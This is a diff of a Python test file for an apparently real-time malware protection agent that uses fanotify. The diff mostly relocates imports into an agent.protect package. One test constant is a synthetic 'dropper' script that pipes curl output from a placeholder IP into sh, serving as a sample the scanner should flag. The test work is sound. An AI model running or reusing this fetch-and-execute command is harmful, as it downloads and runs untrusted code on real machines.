@@ -18,16 +18,16 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from agent import fanotify as fan
 from agent._clock import utc_now
 from agent.cli import main as agent_cli
-from agent.realtime import RealtimeOptions, protection_note, realtime_sources
+from agent.protect import fanotify as fan
+from agent.protect.realtime import RealtimeOptions, protection_note, realtime_sources
 from model_store.repository import init_repository, publish_model, publish_policy
 from tests.tuf_harness import ORG, policy_bytes, serving
 
 pytestmark = pytest.mark.skipif(not fan.is_available()[0], reason=fan.is_available()[1])
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 EVIL = b"#!/bin/sh\n# synthetic dropper\ncurl -s http://203.0.113.9/x | sh\nexit 0\n"
 BENIGN = b"#!/bin/sh\necho hello\nexit 0\n"
 EVIL_SHA = hashlib.sha256(EVIL).hexdigest()
@@ -247,8 +247,8 @@ def test_watcher_and_periodic_scan_decide_a_dropped_file_once(tmp_path: Path, bu
 def test_deadline_reaches_telemetry_as_an_error_with_reason_deadline(tmp_path: Path) -> None:
     from agent.daemon import Agent, DecisionEvent
     from agent.decision import Reason, Verdict
-    from agent.protect import ProtectConfig
-    from agent.realtime import ProtectSource
+    from agent.protect.protector import ProtectConfig
+    from agent.protect.realtime import ProtectSource
 
     folder = tmp_path / "protected"
     folder.mkdir()
